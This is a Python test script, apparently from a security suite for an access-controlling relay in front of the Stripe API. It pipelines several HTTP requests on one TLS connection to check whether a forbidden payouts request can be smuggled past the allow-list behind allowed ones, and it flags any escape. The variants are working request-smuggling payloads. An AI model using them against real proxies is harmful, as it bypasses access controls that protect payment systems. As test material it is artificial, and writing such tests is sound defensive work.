# attack: many requests at once on one connection: the check of the first must not be good for those behind it
# expect: broker
# validator: refused
import socket
import ssl


def speak(text, wait=0.15):
    """All that the relay says to these bytes on one connection."""
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(wait)
        answer = b""
        try:
            tls.sendall(text)
            while piece := tls.recv(65536):
                answer += piece
        except OSError:
            pass
        return answer


ALLOWED = b"GET /v1/customers/cus_1 HTTP/1.1\r\nHost: api.stripe.com\r\n\r\n"
FORBIDDEN = b"GET /v1/payouts HTTP/1.1\r\nHost: api.stripe.com\r\n\r\n"
WITH_BODY = b"GET /v1/customers/cus_1 HTTP/1.1\r\nHost: api.stripe.com\r\nContent-Length: %d\r\n\r\n" % len(FORBIDDEN)
VARIANTS = {
    "allowed, forbidden, allowed": ALLOWED + FORBIDDEN + ALLOWED,
    "in the body of a GET": WITH_BODY + FORBIDDEN + ALLOWED,
    "empty lines between": ALLOWED + b"\r\n\r\n\r\n" + FORBIDDEN,
    "after an end": ALLOWED.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n") + FORBIDDEN,
    "after HEAD": ALLOWED.replace(b"GET", b"HEAD") + FORBIDDEN,
    "fifty": ALLOWED * 49 + FORBIDDEN,
    "after a refusal": FORBIDDEN + ALLOWED + FORBIDDEN,
    "half a line": ALLOWED + FORBIDDEN[:-3],
}
for name, text in VARIANTS.items():
    answer = speak(text, 0.4)
    print(name, [piece[:3] for piece in answer.split(b"HTTP/1.1 ")[1:]][:6])
    if b'"target": "/v1/payouts"' in answer or b"GET /v1/payouts HTTP" in answer:
        print("ESCAPED: the forbidden request went through:", name, flush=True)
